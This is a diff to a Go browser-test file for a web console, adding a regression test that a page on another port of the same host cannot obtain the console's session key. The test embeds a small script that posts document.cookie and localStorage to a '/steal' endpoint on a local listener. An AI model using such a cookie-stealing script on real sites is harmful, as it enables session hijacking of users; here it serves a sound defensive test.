@@ -4,11 +4,13 @@ import (
 	"context"
 	"encoding/json"
 	"fmt"
+	"io"
 	"net/http"
 	"net/http/httptest"
 	"slices"
 	"strconv"
 	"strings"
+	"sync"
 	"testing"
 	"time"
 
@@ -30,7 +32,7 @@ func TestBrowserConsole(t *testing.T) {
 	eventsSubject := v1.EventSubject("default", "x")
 	before := e.following(eventsSubject, v1.EventsStream("default"))
 
-	// the overview: the URL nex ui prints sets the session cookie and leads here
+	// the overview: the URL nex ui prints gives the page the session key and leads here
 	b.do(t, 20*time.Second, "the overview shows the node", chromedp.Navigate(e.srv.URL(e.addr)),
 		chromedp.WaitVisible(chromedp.CSS(`#nodes tr[data-node="`+e.nodeID+`"]`)))
 	if got := eval[string](t, b, `document.querySelector('#nodes tbody tr td').textContent`); got != "console-node" {
@@ -52,6 +54,7 @@ func TestBrowserConsole(t *testing.T) {
 	hostileText(t, b, e)
 	newNamespace(t, b, e)
 	crossOriginPost(t, b, e)
+	otherPortListener(t, b, e)
 
 	b.do(t, 20*time.Second, "the overview again", chromedp.Navigate(base+"/#/"), chromedp.WaitVisible(chromedp.CSS(`#recent-events li`)))
 	b.screenshot(t, "console-overview", false)
@@ -189,6 +192,44 @@ fetch("http://%s/api/workloads/%s/stop", {method: "POST", mode: "no-cors", crede
 	}
 	if st := e.state(w.ID); st != v1.StateRunning {
 		t.Fatalf("after a cross-origin POST the workload is %q", st)
+	}
+}
+
+// otherPortListener: a page served on another port of the console's host (any local user,
+// program or, with the browser on a node, tenant's workload can listen there), opened in
+// the browser that holds the console, gets nothing of the session key: not in the
+// requests the browser sends it, not from its own storage. A cookie went to every port
+// of the host, and such a page drove the system console with it (a review).
+func otherPortListener(t *testing.T, b *browser, e *env) {
+	var mu sync.Mutex
+	var heard []string
+	page := `<!doctype html><title>listener</title><script>
+fetch("/steal", {method: "POST", body: document.cookie + "|" + JSON.stringify(localStorage)})
+  .then(() => { document.title = "told"; }, () => { document.title = "told"; });
+</script>`
+	other := httptest.NewServer(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
+		b, _ := io.ReadAll(r.Body)
+		mu.Lock()
+		heard = append(heard, r.Method+" "+r.URL.Path+" cookie="+r.Header.Get("Cookie")+" body="+string(b))
+		mu.Unlock()
+		rw.Header().Set("Content-Type", "text/html")
+		_, _ = rw.Write([]byte(page))
+	}))
+	defer other.Close()
+	if !strings.HasPrefix(other.URL, "http://127.0.0.1:") || !strings.HasPrefix(e.addr, "127.0.0.1:") {
+		t.Fatalf("the listener (%s) and the console (%s) must share a host", other.URL, e.addr)
+	}
+	b.do(t, 20*time.Second, "the other port's page", chromedp.Navigate(other.URL))
+	b.waitTrue(t, 10*time.Second, "the other page's report", `document.title === "told"`)
+	mu.Lock()
+	defer mu.Unlock()
+	if len(heard) < 2 {
+		t.Fatalf("the listener heard %v", heard)
+	}
+	for _, h := range heard {
+		if strings.Contains(h, e.srv.Key()) {
+			t.Fatalf("a page on another port of the console's host got the session key: %s", h)
+		}
 	}
 }
 
